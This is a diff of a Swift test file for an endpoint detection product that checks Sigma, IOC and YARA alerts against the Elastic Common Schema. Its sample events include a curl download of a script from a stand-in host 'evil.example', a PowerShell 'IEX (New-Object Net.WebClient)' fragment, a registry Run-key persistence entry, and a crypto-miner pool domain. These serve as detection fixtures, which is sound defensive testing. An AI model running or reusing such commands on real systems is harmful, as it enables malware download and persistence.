@@ -103,7 +103,7 @@ indirect enum JSONValue: Equatable {
 /// The ECS 8.11.0 field reference (Tests/EDRDetectTests/ECS, from elastic/ecs, Apache-2.0).
 struct ECSReference {
     var types: [String: String] = [:]
-    var allowed: [String: [String: [String]]] = [:]   // field → value → expected event types
+    var allowed: [String: [String: [String]]] = [:]  // field → value → expected event types
 
     static let shared: ECSReference = {
         let dir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("ECS")
@@ -166,7 +166,10 @@ struct ECSReference {
             if case .int = v { return true }
             return false
         case "float", "double", "scaled_float", "half_float":
-            switch v { case .int, .double: return true; default: return false }
+            switch v {
+            case .int, .double: return true;
+            default: return false
+            }
         case "boolean":
             if case .bool = v { return true }
             return false
@@ -204,22 +207,31 @@ enum AlertSamples {
     }()
 
     static func rule(_ category: String?, product: String = "linux") -> SigmaRuleInfo {
-        SigmaRuleInfo(id: "0f9f3d32-2a4f-4b4b-9e0a-6f3c0c0a1b2c", title: "Test rule for \(category ?? "-")",
-                      description: "Fires on anything", level: .high, author: "Alice (Example Org), Bob",
-                      tags: ["attack.execution", "attack.t1059.004"],
-                      references: ["https://attack.mitre.org/techniques/T1059/004/", "https://example.org/blog"],
-                      logsource: LogSource(product: product, category: category), path: "test.yml")
+        SigmaRuleInfo(
+            id: "0f9f3d32-2a4f-4b4b-9e0a-6f3c0c0a1b2c", title: "Test rule for \(category ?? "-")",
+            description: "Fires on anything", level: .high, author: "Alice (Example Org), Bob",
+            tags: ["attack.execution", "attack.t1059.004"],
+            references: ["https://attack.mitre.org/techniques/T1059/004/", "https://example.org/blog"],
+            logsource: LogSource(product: product, category: category), path: "test.yml")
     }
 
     /// Linux events through the real normalizers: exec, and each telemetry kind.
     static func linuxEvents() throws -> [(event: Event, process: ProcessEntry?, parent: ProcessEntry?)] {
         var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
         var out: [(event: Event, process: ProcessEntry?, parent: ProcessEntry?)] = []
-        let parent = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash"], path: "/usr/bin/bash", cwd: "/root",
-                                                                               start: 1_000_000_000, parentStart: 500_000_000)).asExec)
+        let parent = try #require(
+            try KernelRecordDecoder.decode(
+                RecordBuilder.exec(
+                    pid: 50, ppid: 1, args: ["bash"], path: "/usr/bin/bash", cwd: "/root",
+                    start: 1_000_000_000, parentStart: 500_000_000)
+            ).asExec)
         _ = n.exec(parent)
-        let e = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 100, ppid: 50, args: ["curl", "-o", "/tmp/x", "https://evil.example:8443/p/x.sh?a=1"],
-                                                                          path: "/usr/bin/curl", cwd: "/tmp")).asExec)
+        let e = try #require(
+            try KernelRecordDecoder.decode(
+                RecordBuilder.exec(
+                    pid: 100, ppid: 50, args: ["curl", "-o", "/tmp/x", "https://evil.example:8443/p/x.sh?a=1"],
+                    path: "/usr/bin/curl", cwd: "/tmp")
+            ).asExec)
         let exec = n.exec(e)
         out.append((exec.0, exec.1, exec.2))
         let t2 = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 200, ppid: 1, args: ["sshd"], path: "/usr/sbin/sshd", cwd: "/")).asExec)
@@ -242,7 +254,7 @@ enum AlertSamples {
             TelemetryBuilder.attack(op: 14, result: 3, args: [1, 0, 0, 0], strings: ["payload"]),
             TelemetryBuilder.attack(op: 15, strings: ["none", "/mnt", "tmpfs"]),
             TelemetryBuilder.attack(op: 16, path: "/memfd:payload"),
-            TelemetryBuilder.attack(op: 17, args: [8, 0, 0, 0]),
+            TelemetryBuilder.attack(op: 17, args: [8, 0, 0, 0])
         ]
         for r in records {
             out += t.handle(try KernelRecordDecoder.decode(r), processes: n.cache, now: 1, wallTime: clock).map { ($0.event, $0.process, nil) }
@@ -253,30 +265,56 @@ enum AlertSamples {
     /// Windows events with the fields EDRWindowsEvents' decoder gives each category.
     static func windowsEvents() -> [Event] {
         func ev(_ ls: LogSource, _ f: [(String, FieldValue)]) -> Event { Event(logsource: ls, timestamp: 1_800_000_000.25, fields: f) }
-        let proc: [(String, FieldValue)] = [("ProcessId", 4242), ("Image", "C:\\Windows\\System32\\reg.exe"),
-                                            ("CommandLine", "reg add HKCU\\Software\\x /v y /d \"http://10.0.0.5/a.ps1\""),
-                                            ("User", "CORP\\alice"), ("IntegrityLevel", "High")]
+        let proc: [(String, FieldValue)] = [
+            ("ProcessId", 4242), ("Image", "C:\\Windows\\System32\\reg.exe"),
+            ("CommandLine", "reg add HKCU\\Software\\x /v y /d \"http://10.0.0.5/a.ps1\""),
+            ("User", "CORP\\alice"), ("IntegrityLevel", "High")
+        ]
         return [
-            ev(WindowsLogSources.processCreation, proc + [("ParentProcessId", 4000), ("ParentImage", "C:\\Windows\\explorer.exe"),
-                                                         ("ParentCommandLine", "C:\\Windows\\explorer.exe"), ("ParentUser", "CORP\\alice")]),
-            ev(WindowsLogSources.networkConnection, proc + [("Protocol", "tcp"), ("Initiated", "true"), ("SourceIsIpv6", "false"),
-                                                           ("SourceIp", "10.0.0.2"), ("SourcePort", 50123), ("DestinationIsIpv6", "false"),
-                                                           ("DestinationIp", "10.0.0.5"), ("DestinationPort", 443)]),
-            ev(WindowsLogSources.registrySet, proc + [("EventType", "SetValue"),
-                                                     ("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil"),
-                                                     ("Details", "C:\\Users\\alice\\evil.exe"), ("ValueType", "REG_EXPAND_SZ")]),
-            ev(WindowsLogSources.registrySet, proc + [("EventType", "SetValue"),
-                                                     ("TargetObject", "HKU\\S-1-5-21-1\\Software\\x\\(Default)"), ("Details", "DWORD (0x0000002a)")]),
+            ev(
+                WindowsLogSources.processCreation,
+                proc + [
+                    ("ParentProcessId", 4000), ("ParentImage", "C:\\Windows\\explorer.exe"),
+                    ("ParentCommandLine", "C:\\Windows\\explorer.exe"), ("ParentUser", "CORP\\alice")
+                ]),
+            ev(
+                WindowsLogSources.networkConnection,
+                proc + [
+                    ("Protocol", "tcp"), ("Initiated", "true"), ("SourceIsIpv6", "false"),
+                    ("SourceIp", "10.0.0.2"), ("SourcePort", 50123), ("DestinationIsIpv6", "false"),
+                    ("DestinationIp", "10.0.0.5"), ("DestinationPort", 443)
+                ]),
+            ev(
+                WindowsLogSources.registrySet,
+                proc + [
+                    ("EventType", "SetValue"),
+                    ("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil"),
+                    ("Details", "C:\\Users\\alice\\evil.exe"), ("ValueType", "REG_EXPAND_SZ")
+                ]),
+            ev(
+                WindowsLogSources.registrySet,
+                proc + [
+                    ("EventType", "SetValue"),
+                    ("TargetObject", "HKU\\S-1-5-21-1\\Software\\x\\(Default)"), ("Details", "DWORD (0x0000002a)")
+                ]),
             ev(WindowsLogSources.registryAdd, proc + [("EventType", "CreateKey"), ("TargetObject", "HKLM\\SOFTWARE\\Evil")]),
             ev(WindowsLogSources.registryDelete, proc + [("EventType", "DeleteValue"), ("TargetObject", "HKLM\\SOFTWARE\\Evil\\v")]),
-            ev(LogSource(product: "windows", category: "registry_event"), proc + [("EventType", "SetValue"),
-                                                     ("TargetObject", "HKLM\\SOFTWARE\\q"), ("Details", "QWORD (0x00000001-0x00000002)")]),
-            ev(WindowsLogSources.dnsQuery, proc + [("QueryName", "evil.example"), ("QueryStatus", "0"),
-                                                  ("QueryResults", "type:  5 cdn.evil.example;::ffff:203.0.113.9;203.0.113.10;")]),
+            ev(
+                LogSource(product: "windows", category: "registry_event"),
+                proc + [
+                    ("EventType", "SetValue"),
+                    ("TargetObject", "HKLM\\SOFTWARE\\q"), ("Details", "QWORD (0x00000001-0x00000002)")
+                ]),
+            ev(
+                WindowsLogSources.dnsQuery,
+                proc + [
+                    ("QueryName", "evil.example"), ("QueryStatus", "0"),
+                    ("QueryResults", "type:  5 cdn.evil.example;::ffff:203.0.113.9;203.0.113.10;")
+                ]),
             ev(LogSource(product: "windows", category: "image_load"), proc + [("ImageLoaded", "C:\\Windows\\System32\\evil.dll")]),
             ev(LogSource(product: "windows", category: "file_event"), proc + [("TargetFilename", "C:\\Users\\alice\\AppData\\x.lnk")]),
             ev(LogSource(product: "windows", category: "process_termination"), proc),
-            ev(LogSource(product: "windows", category: "ps_script"), proc + [("ScriptBlockText", "IEX (New-Object Net.WebClient)")]),
+            ev(LogSource(product: "windows", category: "ps_script"), proc + [("ScriptBlockText", "IEX (New-Object Net.WebClient)")])
         ]
     }
 
@@ -287,37 +325,77 @@ enum AlertSamples {
         let linux = try linuxEvents()
         for t in linux {
             seq += 1
-            out.append(("sigma \(t.event.logsource.category ?? "")",
-                        AlertEncoder.sigma(event: t.event, rule: rule(t.event.logsource.category), sequence: seq, context: context,
-                                           process: t.process, parent: t.parent)))
+            out.append(
+                (
+                    "sigma \(t.event.logsource.category ?? "")",
+                    AlertEncoder.sigma(
+                        event: t.event, rule: rule(t.event.logsource.category), sequence: seq, context: context,
+                        process: t.process, parent: t.parent)
+                ))
         }
         for e in windowsEvents() {
             seq += 1
-            out.append(("sigma windows \(e.logsource.category ?? "")",
-                        AlertEncoder.sigma(event: e, rule: rule(e.logsource.category, product: "windows"), sequence: seq, context: context)))
+            out.append(
+                (
+                    "sigma windows \(e.logsource.category ?? "")",
+                    AlertEncoder.sigma(event: e, rule: rule(e.logsource.category, product: "windows"), sequence: seq, context: context)
+                ))
         }
         let byCategory = { (c: String) in linux.first { $0.event.logsource.category == c }! }
         let net = byCategory("network_connection"), dns = byCategory("dns_query"), file = byCategory("file_event")
         let exec = byCategory("process_creation")
-        out.append(("ioc ip", IOCAlerts.encode(IOCMatch(type: .ip, indicator: "127.0.0.0/24", label: "bad net", field: "DestinationIp", observed: "127.0.0.77"),
-                                               event: net.event, process: net.process, sequence: 1, context: context).0))
-        out.append(("ioc domain", IOCAlerts.encode(IOCMatch(type: .domain, indicator: "minexmr.com", label: nil, field: "QueryName", observed: "pool.minexmr.com"),
-                                                   event: dns.event, process: dns.process, sequence: 2, context: context).0))
-        out.append(("ioc path", IOCAlerts.encode(IOCMatch(type: .path, indicator: "^/etc/cron\\.d/", label: "cron drop", field: "TargetFilename", observed: "/etc/cron.d/evil"),
-                                                 event: file.event, process: file.process, sequence: 3, context: context).0))
+        out.append(
+            (
+                "ioc ip",
+                IOCAlerts.encode(
+                    IOCMatch(type: .ip, indicator: "127.0.0.0/24", label: "bad net", field: "DestinationIp", observed: "127.0.0.77"),
+                    event: net.event, process: net.process, sequence: 1, context: context
+                ).0
+            ))
+        out.append(
+            (
+                "ioc domain",
+                IOCAlerts.encode(
+                    IOCMatch(type: .domain, indicator: "minexmr.com", label: nil, field: "QueryName", observed: "pool.minexmr.com"),
+                    event: dns.event, process: dns.process, sequence: 2, context: context
+                ).0
+            ))
+        out.append(
+            (
+                "ioc path",
+                IOCAlerts.encode(
+                    IOCMatch(type: .path, indicator: "^/etc/cron\\.d/", label: "cron drop", field: "TargetFilename", observed: "/etc/cron.d/evil"),
+                    event: file.event, process: file.process, sequence: 3, context: context
+                ).0
+            ))
         var hashed = exec.event
         let hashes = FileHashes(md5: String(repeating: "a", count: 32), sha1: String(repeating: "b", count: 40), sha256: String(repeating: "c", count: 64))
         hashed["Hashes"] = .string("MD5=\(hashes.md5!.uppercased()),SHA1=\(hashes.sha1!.uppercased()),SHA256=\(hashes.sha256!.uppercased())")
-        out.append(("ioc hash", IOCAlerts.encode(IOCMatch(type: .hash, indicator: hashes.sha256!, label: "bad binary", field: "Hashes", observed: hashes.sha256!),
-                                                 event: hashed, process: exec.process, sequence: 4, context: context,
-                                                 extra: { w in ExecutableScanner.writeFile(&w, path: "/usr/bin/curl", hashes: hashes) },
-                                                 edrExtra: { w in ExecutableScanner.writeScan(&w, (.scanned, true)) }).0))
-        let m = YaraMatch(rule: "Evil_Curl", namespace: "team", tags: ["miner"],
-                          meta: [YaraMeta(key: "description", value: .string("a test")), YaraMeta(key: "author", value: .string("Carol")),
-                                 YaraMeta(key: "reference", value: .string("https://example.org/yara")), YaraMeta(key: "score", value: .int(75))],
-                          severity: nil)
-        out.append(("yara", YaraAlerts.encode(m, event: hashed, process: try #require(exec.process), sequence: 5, context: context,
-                                              path: "/usr/bin/curl", hashes: hashes, scan: (.cached, false)).0))
+        out.append(
+            (
+                "ioc hash",
+                IOCAlerts.encode(
+                    IOCMatch(type: .hash, indicator: hashes.sha256!, label: "bad binary", field: "Hashes", observed: hashes.sha256!),
+                    event: hashed, process: exec.process, sequence: 4, context: context,
+                    extra: { w in ExecutableScanner.writeFile(&w, path: "/usr/bin/curl", hashes: hashes) },
+                    edrExtra: { w in ExecutableScanner.writeScan(&w, (.scanned, true)) }
+                ).0
+            ))
+        let m = YaraMatch(
+            rule: "Evil_Curl", namespace: "team", tags: ["miner"],
+            meta: [
+                YaraMeta(key: "description", value: .string("a test")), YaraMeta(key: "author", value: .string("Carol")),
+                YaraMeta(key: "reference", value: .string("https://example.org/yara")), YaraMeta(key: "score", value: .int(75))
+            ],
+            severity: nil)
+        out.append(
+            (
+                "yara",
+                YaraAlerts.encode(
+                    m, event: hashed, process: try #require(exec.process), sequence: 5, context: context,
+                    path: "/usr/bin/curl", hashes: hashes, scan: (.cached, false)
+                ).0
+            ))
         var health = HealthAlert(ruleID: "edr-health-child-died", title: "Child died", level: "high", action: "child-died", message: "edr-sensor died")
         health.processName = "edr-sensor"; health.processPID = 77; health.processExecutable = "/usr/libexec/edr/edr-sensor"; health.userID = "0"
         health.fields = [("child", "edr-sensor")]; health.numbers = [("exit_status", 9)]
@@ -340,7 +418,10 @@ struct ECSFieldTests {
 
     /// The checker itself: it catches what it is for.
     @Test func checkerCatchesNonECS() throws {
-        let bad = try JSONValue.parse(Array(#"{"yara":{"rule":"x"},"source":{"ip":"not-an-ip","port":"80"},"@timestamp":"yesterday","edr":{"anything":1},"event":{"kind":"alert","category":["file"],"type":["connection"]}}"#.utf8))
+        let bad = try JSONValue.parse(
+            Array(
+                #"{"yara":{"rule":"x"},"source":{"ip":"not-an-ip","port":"80"},"@timestamp":"yesterday","edr":{"anything":1},"event":{"kind":"alert","category":["file"],"type":["connection"]}}"#
+                    .utf8))
         let p = ECSReference.shared.problems(bad)
         #expect(p.contains("yara: not an ECS field"))
         #expect(p.contains { $0.hasPrefix("source.ip:") } && p.contains { $0.hasPrefix("source.port:") } && p.contains { $0.hasPrefix("@timestamp:") })
@@ -353,11 +434,13 @@ struct ECSFieldTests {
     @Test func everyAlertKindIsECS() throws {
         let alerts = try AlertSamples.all()
         let categories = Set(alerts.map(\.0))
-        for c in ["sigma process_creation", "sigma network_connection", "sigma dns_query", "sigma file_event", "sigma file_change",
-                  "sigma file_delete", "sigma file_rename", "sigma process_access", "sigma driver_load", "sigma bpf_program_load",
-                  "sigma privilege_change", "sigma memfd_create", "sigma mount", "sigma fileless_exec", "sigma compat_syscall",
-                  "sigma windows registry_set", "sigma windows registry_add", "sigma windows registry_delete",
-                  "sigma windows dns_query", "sigma windows network_connection", "ioc ip", "yara", "health", "response"] {
+        for c in [
+            "sigma process_creation", "sigma network_connection", "sigma dns_query", "sigma file_event", "sigma file_change",
+            "sigma file_delete", "sigma file_rename", "sigma process_access", "sigma driver_load", "sigma bpf_program_load",
+            "sigma privilege_change", "sigma memfd_create", "sigma mount", "sigma fileless_exec", "sigma compat_syscall",
+            "sigma windows registry_set", "sigma windows registry_add", "sigma windows registry_delete",
+            "sigma windows dns_query", "sigma windows network_connection", "ioc ip", "yara", "health", "response"
+        ] {
             #expect(categories.contains(c), "no sample alert for \(c)")
         }
         var ids = Set<String>()
@@ -370,8 +453,10 @@ struct ECSFieldTests {
             let v = try JSONValue.parse(line)
             let problems = ECSReference.shared.problems(v)
             #expect(problems.isEmpty, "\(name): \(problems)\n\(String(decoding: line, as: UTF8.self))")
-            for f in ["@timestamp", "event.id", "event.kind", "event.category", "event.type", "event.action", "host.name", "host.id",
-                      "host.os.type", "agent.id", "agent.version", "rule.id", "rule.name", "ecs.version"] {
+            for f in [
+                "@timestamp", "event.id", "event.kind", "event.category", "event.type", "event.action", "host.name", "host.id",
+                "host.os.type", "agent.id", "agent.version", "rule.id", "rule.name", "ecs.version"
+            ] {
                 #expect(v[f] != nil, "\(name): no \(f)")
             }
             if let id = v["event.id"]?.string { #expect(ids.insert(id).inserted, "\(name): event.id \(id) repeated") }
@@ -389,7 +474,8 @@ struct ECSFieldTests {
         #expect(exec["host.os.platform"]?.string == "ubuntu" && exec["host.os.family"]?.string == "debian")
         #expect(exec["agent.id"]?.string == HostIdentity.agentID(machineID: "3d1219c7c4c5404aaa1f6d2a48adfda4"))
         let net = try #require(alerts["sigma network_connection"])
-        #expect(net["destination.ip"]?.string == "127.0.0.77" && net["destination.port"] == .int(3333) && net["destination.domain"]?.string == "pool.minexmr.com")
+        #expect(
+            net["destination.ip"]?.string == "127.0.0.77" && net["destination.port"] == .int(3333) && net["destination.domain"]?.string == "pool.minexmr.com")
         #expect(net["source.ip"]?.string == "127.0.0.88" && net["network.transport"]?.string == "tcp" && net["network.direction"]?.string == "egress")
         #expect(net["related.ip"]?.strings == ["127.0.0.88", "127.0.0.77"])
         let dns = try #require(alerts["sigma dns_query"])
